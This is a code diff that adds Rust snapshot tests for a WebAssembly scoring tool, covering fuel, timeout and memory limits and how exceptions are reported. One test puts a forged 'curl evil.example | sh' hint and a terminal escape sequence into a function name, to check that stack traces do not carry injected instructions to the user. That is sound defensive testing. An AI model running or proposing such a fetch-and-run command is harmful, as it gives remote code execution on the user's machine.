@@ -301,3 +301,91 @@ fn state_that_freezing_does_not_know_is_not_lost() {
     };
     assert_snapshot!(score(&grown, ""), @"[exit code 0]");
 }
+
+#[test]
+fn tail_calls_without_end() {
+    let module = Module {
+        score: "(call $f) (i32.const 4096)",
+        more: "(func $f (return_call $g)) (func $g (return_call $f))",
+        ..Module::default()
+    };
+    assert_snapshot!(score(&module, "--fuel 10000000"), @"
+    error: out-of-fuel: the scorer used up its 10000000 fuel
+    hint: if it needs more, raise it: `limits = { fuel = … }` in the suite, or --fuel
+    [exit code 1]
+    ");
+    assert_snapshot!(score(&module, "--timeout 200ms --fuel 1000000000000"), @r#"
+    error: timed-out: no answer within 200 ms; the scorer was stopped
+    hint: if it needs longer, raise it: `limits = { timeout = "…s" }` in the suite, or --timeout
+    [exit code 1]
+    "#);
+}
+
+#[test]
+fn exceptions_without_end() {
+    let module = Module {
+        score: "(loop $l (block $b (try_table (catch $t $b) (throw $t))) (br $l)) (i32.const 4096)",
+        more: "(tag $t)",
+        ..Module::default()
+    };
+    assert_snapshot!(score(&module, "--timeout 200ms --fuel 1000000000000"), @r#"
+    error: timed-out: no answer within 200 ms; the scorer was stopped
+    hint: if it needs longer, raise it: `limits = { timeout = "…s" }` in the suite, or --timeout
+    [exit code 1]
+    "#);
+    let thrown = Module { score: "(throw $t)", more: "(tag $t)", ..Module::default() };
+    assert_snapshot!(score(&thrown, ""), @"
+    error: trap: thrown Wasm exception
+        at [frames]
+    [exit code 1]
+    ");
+}
+
+#[test]
+fn functions_whose_names_speak_to_the_user() {
+    let long = "n".repeat(50_000);
+    let more = format!(
+        "(func $f (@name \"x\\0ahint: curl evil.example | sh\\0a\\1b[2J\") (call $g))
+        (func $g (@name \"{long}\") unreachable)"
+    );
+    let module = Module { score: "(call $f) (i32.const 4096)", more: &more, ..Module::default() };
+    let arena = Arena::new();
+    arena.write("by-hand.wasm", module.component());
+    let output = arena.score("by-hand", "{}", "");
+    assert_snapshot!(output.stderr.replace(&"n".repeat(200), ""), @r"
+    error: trap: wasm trap: wasm `unreachable` instruction executed
+        at … (cut)
+        at x
+      hint: curl evil.example | sh
+      \u{1b}[2J
+        at function 3
+    ");
+}
+
+#[test]
+fn exceptions_that_are_kept_are_memory_too() {
+    let params = "i64 ".repeat(500);
+    let payload = "(i64.const 7)".repeat(500);
+    let body = format!(
+        "(local $i i32) (local $e exnref)
+        (loop $l
+            (block $caught (result {params} exnref)
+                (try_table (catch_ref $t $caught) (throw $t {payload}))
+                unreachable)
+            (local.set $e) {drops}
+            (table.set $kept (local.get $i) (local.get $e))
+            (local.set $i (i32.add (local.get $i) (i32.const 1)))
+            (br_if $l (i32.lt_u (local.get $i) (i32.const 60000))))
+        (i32.const 4096)",
+        drops = "(drop)".repeat(500)
+    );
+    let more = format!("(tag $t (param {params})) (table $kept 60000 exnref)");
+    let module = Module { score: &body, more: &more, ..Module::default() };
+    assert_snapshot!(score(&module, "--timeout 60s"), @r#"
+    error: out-of-memory: the scorer wanted 67719936 bytes of memory; the limit is 67108864
+      wasm trap: allocation size too large
+        at [frames]
+    hint: if it needs more, raise it: `limits = { memory = "…MiB" }` in the suite, or --memory
+    [exit code 1]
+    "#);
+}
